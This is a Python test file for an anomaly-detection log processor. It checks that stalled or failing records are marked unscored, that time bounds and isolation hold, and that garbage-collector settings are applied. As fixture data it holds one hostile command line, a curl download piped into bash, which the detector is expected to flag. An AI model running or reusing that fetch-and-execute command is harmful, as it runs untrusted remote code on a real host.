"""Unscored is never the failure mode: a record that breaks or stalls the scorer costs only itself.

The hostile records of the attack (a body nested 5,000 levels deep, a 60 KB auditd line) are each a bug
the normaliser fixes; these tests make the scorer misbehave on demand instead, so the time bound and the
isolation stay tested whatever the normaliser does. `misbehaving_scorer` is that fake: the real engine,
with a scorer that hangs on a record whose body is STALL and raises on one whose body is FAIL.
"""

from __future__ import annotations

import gc
import time
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from core.confmap import decode, load_yaml
from core.runtime import YOUNG_GENERATION_THRESHOLD
from otlp_receiver.component import CreateSettings, LogBatch
from otlp_receiver.processors.anomaly import factory
from otlp_receiver.processors.anomaly.config import Config
from otlp_receiver.processors.anomaly.scorer import BatchScorer, Outcome
from otlp_receiver.processors.anomaly.worker import ScoringWorker
from otlp_receiver.telemetry import Telemetry
from scoring.engine import AnomalyEngine

TESTDATA = Path(__file__).parent / "testdata"
ATTACK = ("sh", "sh -c cd /tmp; curl -s http://203.0.113.9/x | bash", "nginx")


class MisbehavingScorer(BatchScorer):
    def score(self, logs: ExportLogsServiceRequest, tenant: str) -> Outcome:
        bodies = {r.body.string_value for rl in logs.resource_logs for sl in rl.scope_logs for r in sl.log_records}
        if "STALL" in bodies:
            time.sleep(3600)  # as a quadratic regex on a hostile line does
        if "FAIL" in bodies:
            raise RecursionError("maximum recursion depth exceeded")  # as a deeply nested body did
        return super().score(logs, tenant)


def misbehaving_scorer(config: Config) -> BatchScorer:
    return MisbehavingScorer(config, AnomalyEngine(config))


def config(tmp_path: Path, **overrides: Any) -> Config:
    document = load_yaml(TESTDATA / "anomaly.yaml", {"BASELINES": str(tmp_path / "b"), "SEPARATE_PROCESS": "true"})
    return decode(Config, {**document, **overrides})


def batch_of(*bodies: str) -> LogBatch:
    """Records of workload `web`: a body naming a fault is a plain record, any other an exec of `ATTACK`
    (a shell run by nginx piping a download into bash) or of nginx itself ("normal")."""
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    for key, value in {"host.name": "web-1", "procsight.workload": "web", "service.name": "procsight-agent"}.items():
        attribute = resource_logs.resource.attributes.add(key=key)
        attribute.value.string_value = value
    scope = resource_logs.scope_logs.add()
    for pid, body in enumerate(bodies, start=500):
        record = scope.log_records.add(event_name="process.exec", severity_number=9)
        record.body.string_value = body
        if body in ("STALL", "FAIL"):
            continue
        name, line, parent = ATTACK if body == "attack" else ("nginx", "nginx -g daemon off;", "systemd")
        for key, value in {"process.executable.name": name, "process.command_line": line,
                           "process.parent.executable.name": parent}.items():
            attribute = record.attributes.add(key=key)
            attribute.value.string_value = value
        record.attributes.add(key="process.pid").value.int_value = pid
    return LogBatch(logs=request, tenant="default", batch_id="b-1-1")


def verdicts(batch: LogBatch) -> list[tuple[str, str]]:
    """(severity, first reason) of each record."""
    result = []
    for record in batch.logs.resource_logs[0].scope_logs[0].log_records:
        attributes = {kv.key: kv.value for kv in record.attributes}
        severity = attributes["anomaly_severity"].string_value if "anomaly_severity" in attributes else ""
        reasons = attributes.get("anomaly_reasons")
        result.append((severity, reasons.array_value.values[0].string_value if reasons else ""))
    return result


def test_in_process_a_failing_record_costs_only_itself(tmp_path: Path) -> None:
    telemetry = Telemetry()
    processor = factory.create(config(tmp_path, separate_process=False), CreateSettings("anomaly", tmp_path, telemetry))
    processor.scorer = misbehaving_scorer(processor.config)
    try:
        batch = processor.process(batch_of("normal", "FAIL", "attack"))
    finally:
        processor.shutdown()
    (normal, _), (failed, why), (attack, _) = verdicts(batch)
    assert failed == "unscored" and "not scored" in why and "RecursionError" in why
    assert attack in ("warn", "alert") and normal not in ("", "unscored")
    assert batch.embeddings is not None and batch.embeddings[2].any() and not batch.embeddings[1].any()
    unscored = telemetry.counter("procsight_unscored_log_records_total", "")
    assert unscored.value(reason="failed") == 1


def test_a_stalled_batch_is_cut_at_its_time_bound_and_the_rest_scored(tmp_path: Path) -> None:
    worker = ScoringWorker(config(tmp_path, timeout="3s", record_timeout="1s"), scorer_factory=misbehaving_scorer)
    try:
        batch = batch_of("normal", "STALL", "attack", "FAIL", "normal")
        started = time.monotonic()
        scored, outcome = worker.score(batch.serialized(), batch.tenant)
        batch.set_wire(scored)
        took = time.monotonic() - started
        assert worker.restarts == 2  # the batch timed out, then the STALL record alone
        assert worker.score(batch_of("normal").serialized(), "default")[1].severities  # still scoring
    finally:
        worker.close()
    severities = [severity for severity, _ in verdicts(batch)]
    assert severities[2] in ("warn", "alert"), verdicts(batch)  # the attack is not hidden by its neighbours
    assert severities[1] == severities[3] == "unscored"
    assert "timed out" in verdicts(batch)[1][1] and "failed" in verdicts(batch)[3][1]
    assert outcome.unscored and sum(outcome.unscored.values()) == 2
    # 3 s for the batch and 1 s for the record, plus two restarts of the child (seconds each, more under load)
    assert took < 90, took


def test_the_isolation_stops_at_its_own_time_bound(tmp_path: Path) -> None:
    worker = ScoringWorker(config(tmp_path, timeout="2s", record_timeout="2s"), scorer_factory=misbehaving_scorer)
    try:
        batch = batch_of("STALL", "attack")
        scored, outcome = worker.score(batch.serialized(), batch.tenant)
        batch.set_wire(scored)
    finally:
        worker.close()
    # The batch took its 2 s, the STALL record alone the isolation's 2 s: the attack is left unscored,
    # and says so (never a silent score of 0).
    assert verdicts(batch) == [("unscored", "not scored: scoring this record alone timed out after 2.0s"),
                               ("unscored", "not scored: the batch ran out of scoring time")]
    assert outcome.unscored == {"scoring this record alone timed out after 2.0s": 1,
                                "the batch ran out of scoring time": 1}


@pytest.mark.parametrize("timeout", ["0s", "-1s"])
def test_time_bounds_must_be_positive(tmp_path: Path, timeout: str) -> None:
    from core.confmap import ConfigError

    with pytest.raises(ConfigError, match="timeout"):
        config(tmp_path, timeout=timeout)


class GcReportingScorer(BatchScorer):
    """The real scorer, whose `baselines` answer is the child's garbage-collector settings instead."""

    def baselines(self, tenant: str) -> list[dict[str, Any]]:
        return [{"young_threshold": gc.get_threshold()[0], "frozen": gc.get_freeze_count()}]


def gc_reporting_scorer(config: Config) -> BatchScorer:
    return GcReportingScorer(config, AnomalyEngine(config))


def test_the_scoring_child_runs_with_the_long_running_garbage_collector_settings(tmp_path: Path) -> None:
    worker = ScoringWorker(config(tmp_path), scorer_factory=gc_reporting_scorer)
    try:
        settings = worker.control("baselines", "default")[0]
    finally:
        worker.close()
    assert settings["young_threshold"] == YOUNG_GENERATION_THRESHOLD
    assert settings["frozen"] > 10_000  # modules, libraries and the engine as built
